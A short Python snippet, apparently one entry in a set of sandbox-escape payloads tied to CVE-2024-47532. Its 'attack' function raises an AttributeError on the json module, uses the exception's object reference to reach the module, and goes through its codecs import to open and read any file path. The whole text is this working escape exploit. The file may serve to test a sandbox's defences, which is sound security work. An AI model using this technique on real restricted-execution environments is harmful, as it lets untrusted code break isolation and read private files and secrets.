# An AttributeError keeps the object that lacked the attribute: a module, which leads to others.
# after: read
# source: CVE-2024-47532 (GHSA-5rfv-66g4-jr8h)
import json
def attack(path, **_):
    try:
        json.nothing
    except AttributeError as e:
        return {"text": e.obj.codecs.open(path).read()}
